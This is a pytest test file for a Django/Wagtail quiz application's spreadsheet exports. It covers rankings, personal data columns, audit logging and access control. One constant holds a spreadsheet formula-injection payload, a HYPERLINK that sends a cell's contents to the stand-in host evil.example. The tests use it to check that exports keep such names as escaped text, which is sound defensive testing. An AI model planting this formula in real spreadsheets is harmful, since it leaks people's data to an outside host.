"""The organizer's .xlsx exports: contents, formula safety, personal data, audit log, access."""

import io
from datetime import timedelta

import pytest
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.models import PageLogEntry

from elearning.roles import LEARNER, ORGANIZER, TRAINER
from quizzes.models import PrizeRule
from quizzes.services import prizes, results
from tests.factories.elearning import ProfileFactory, UnitFactory, user_with_role
from tests.factories.results import closed_contest, graded_attempt, questions_of

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.fixture
def contest():
    contest = closed_contest(questions=4)
    PrizeRule.objects.create(contest=contest, level="first", count=1)
    return contest


@pytest.fixture
def people(contest):
    unit = UnitFactory(code="xa-yen-trach", name="Xã Yên Trạch", headcount=2)
    evil = ProfileFactory(full_name=EVIL, unit=unit, phone="0911111111", national_id="001090000001")
    evil.user.email = "evil@example.com"
    evil.user.save()
    plain = ProfileFactory(full_name="Trần Thị Bình", unit=unit, phone="0922222222")
    questions = questions_of(contest)
    round1 = contest.rounds.get(number=1)
    started = round1.opens_at + timedelta(hours=3)
    graded_attempt(evil, round1, right=questions, seconds=95.5, prediction=5, device="dev0001", started_at=started)
    graded_attempt(plain, round1, right=questions[:2], wrong=questions[2:], seconds=60, prediction=2)
    return {"evil": evil, "plain": plain, "started": started}


@pytest.fixture
def organizer(client):
    user = user_with_role(ORGANIZER, unit=None)
    client.force_login(user)
    return user


def local(moment):
    """As the workbook holds times: local, to the second, without a zone."""
    return timezone.localtime(moment).replace(tzinfo=None, microsecond=0)


def export(client, contest, kind, **params):
    query = "&".join(f"{key}={value}" for key, value in params.items())
    return client.get(f"/admin/contest/results/{contest.pk}/export/{kind}.xlsx" + (f"?{query}" if query else ""))


def sheet_of(response):
    assert response.status_code == 200, response
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "no-store" in response["Cache-Control"]
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook.active
    header, *rows = list(sheet.iter_rows(values_only=True))
    return sheet, header, rows


def test_a_formula_typed_as_a_name_stays_text(client, contest, people, organizer):
    for kind, params in (("round", {"round": 1}), ("contest", {}), ("attempts", {})):
        sheet, header, rows = sheet_of(export(client, contest, kind, **params))
        cells = [
            cell
            for row in sheet.iter_rows()
            for cell in row
            if isinstance(cell.value, str) and "HYPERLINK" in cell.value
        ]
        assert cells, kind
        for cell in cells:
            assert cell.data_type == "s" and cell.value == "'" + EVIL, kind


def test_round_ranking_final_with_prediction_distance_and_personal_data(client, contest, people, organizer):
    results.close_round(contest.rounds.get(number=1))  # 2 participants: actual count 2
    response = export(client, contest, "round", round=1)
    assert "round-1-final.xlsx" in response["Content-Disposition"]
    _sheet, header, rows = sheet_of(response)
    assert len(header) == 14
    first, second = rows
    assert first[:7] == (1, "'" + EVIL, "Xã Yên Trạch", "Công dân", "0911111111", "evil@example.com", "001090000001")
    assert first[7:12] == (4, 4, 5, 3, 95.5)  # score, max, prediction 5, distance |5 - 2| = 3, seconds
    assert first[12] == local(people["started"] + timedelta(seconds=95.5))
    assert second[:2] == (2, "Trần Thị Bình") and second[9:11] == (2, 0)


def test_live_round_ranking_before_the_round_is_final(client, contest, people, organizer):
    response = export(client, contest, "round", round=1)
    assert "round-1-live.xlsx" in response["Content-Disposition"]
    _sheet, _header, rows = sheet_of(response)
    assert [(row[0], row[7], row[10]) for row in rows] == [(1, 4, None), (2, 2, None)]


def test_contest_ranking_has_each_rounds_score_and_distance(client, contest, people, organizer):
    results.close_round(contest.rounds.get(number=1))
    _sheet, header, rows = sheet_of(export(client, contest, "contest"))
    assert header[7:] == (
        "Tổng điểm",
        "Số tuần đã thi",
        "Tổng thời gian (giây)",
        "Điểm tuần 1",
        "Độ lệch dự đoán tuần 1",
        "Điểm tuần 2",
    )
    assert rows[0][7:] == (4, 1, 95.5, 4, 3, None)
    assert rows[1][1] == "Trần Thị Bình"


def test_attempts_for_audit(client, contest, people, organizer):
    _sheet, header, rows = sheet_of(export(client, contest, "attempts"))
    evil = next(row for row in rows if row[3] == "'" + EVIL)
    started = people["started"]
    assert evil[1:3] == (1, 1)
    assert evil[9:] == (
        "Đã nộp bài",
        local(started),
        local(started + timedelta(seconds=900)),  # the deadline: the 15-minute time limit
        local(started + timedelta(seconds=95.5)),
        95.5,
        4,
        4,
        5,
        "dev0001",
    )
    round2 = sheet_of(export(client, contest, "attempts", round=2))[2]
    assert round2 == []


def test_prize_and_unit_exports(client, contest, people, organizer):
    results.close_round(contest.rounds.get(number=1))
    prizes.draft_prizes(contest)
    _sheet, _header, rows = sheet_of(export(client, contest, "prizes"))
    person = next(row for row in rows if row[2] == 1)
    assert person[:6] == ("Bản nháp", "Giải nhất", 1, "Mọi người", 1, "'" + EVIL)
    assert "0911111111" in person
    unit = next(row for row in rows if row[5] == "Xã Yên Trạch")
    assert unit[:2] == ("Bản nháp", "Giải nhất")
    _sheet, header, rows = sheet_of(export(client, contest, "units"))
    row = next(r for r in rows if r[1] == "xa-yen-trach")
    assert row[2:9] == ("Xã Yên Trạch", 2, 2, 100, 3, "Không", "Có")


def test_every_export_is_logged(client, contest, people, organizer):
    export(client, contest, "units")
    export(client, contest, "round", round=1)
    entries = PageLogEntry.objects.filter(page=contest, action="quizzes.export").order_by("timestamp", "pk")
    assert [(e.user, e.data["export"], e.data["round"], e.data["rows"]) for e in entries] == [
        (organizer, "units", None, 1),
        (organizer, "round", 1, 2),
    ]


def test_bad_requests_change_nothing_and_say_why(client, contest, people, organizer):
    assert export(client, contest, "round").status_code == 302  # no round
    assert export(client, contest, "round", round=9).status_code == 302
    assert export(client, contest, "round", round=1, group="official").status_code == 302  # no groups here
    assert export(client, contest, "secrets").status_code == 404
    assert not PageLogEntry.objects.filter(action="quizzes.export").exists()
    response = export(client, contest, "round", round=9)
    messages = [str(m) for m in response.wsgi_request._messages]
    assert messages


@pytest.mark.parametrize("role", [TRAINER, LEARNER])
def test_only_organizers_export(client, contest, people, role):
    client.force_login(user_with_role(role, unit=None))
    response = export(client, contest, "attempts")
    if role == TRAINER:
        assert response.status_code == 403
    else:  # no admin access at all: Wagtail sends them to its login page
        assert response.status_code == 302 and "/admin/login/" in response["Location"]
    assert b"0911111111" not in response.content
    assert not PageLogEntry.objects.filter(action="quizzes.export").exists()


def test_anonymous_visitors_are_sent_to_log_in(client, contest, people):
    response = export(client, contest, "attempts")
    assert response.status_code == 302 and "/admin/login/" in response["Location"]
